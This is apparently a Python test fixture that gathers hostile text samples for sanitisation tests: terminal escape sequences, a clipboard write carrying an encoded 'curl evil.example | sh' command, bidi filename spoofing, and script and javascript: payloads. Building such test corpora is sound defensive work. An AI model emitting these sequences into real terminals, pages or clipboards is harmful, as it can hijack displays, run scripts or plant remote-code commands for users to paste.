"""A corpus of hostile text, and the check that none of it reached a reader.

Every test of issue 14 ("nothing hostile gets through") draws from here, so
the CLI, the TUI, the exports and the bundles are all tried with the same
sequences: terminal escapes (CSI, OSC 0/8/52, an OSC left open), C1 controls,
bidi overrides, NUL, Rich markup, HTML and `javascript:` links.
"""

from __future__ import annotations

from reflect.core.text import HIDDEN

ESC = "\x1b"
CORPUS: dict[str, str] = {
    "csi clear": f"before{ESC}[2J{ESC}[Hafter",
    "osc title": f"{ESC}]0;pwned window title\x07kept",
    "osc link": f"{ESC}]8;;https://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\",
    "osc clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied",
    "osc left open": f"{ESC}]0;swallow the rest of the line",
    "c1 csi": "one\x9b2Jtwo\x9d0;title\x9c",
    "bidi": "invoice\u202egnp.exe and \u2066isolated\u2069 \u200fmark\u061c",
    "nul and bell": "nul\x00bell\x07back\x08del\x7f",
    "rich markup": "[bold red]loud[/] [@click=app.quit]quit[/] [link=x]y[/link] [/]",
    "html": '<script>alert(1)</script><img src=x onerror="alert(2)"> <sigh>',
    "html more": (
        '<iframe src="javascript:alert(3)"></iframe><div onclick="x()">d</div>'
    ),
    "links": "[click](javascript:alert(4)) [data](data:text/html,hi) <javascript:x>",
}

TITLE = f"Hard day {ESC}]0;owned{ESC}\\ <b>bold</b> [red]r[/red]\u202eevil"
"""One title that carries a little of everything, for lists and headers."""

BIG_LINE = "a" * 1_000_000 + f"{ESC}]52;c;eA==\x07"
"""A 1 MB line ending in a clipboard write: slow paths and cut-offs show."""


def hidden_in(text: str) -> list[str]:
    """The hidden code points found in `text`, as `U+XXXX` names (for a
    readable assertion message); empty when the text is safe to show."""
    return sorted({f"U+{ord(c):04X}" for c in HIDDEN.findall(text)})


def everything() -> str:
    """The whole corpus as one answer, one sample per line."""
    return "\n".join(f"{name}: {text}" for name, text in CORPUS.items())
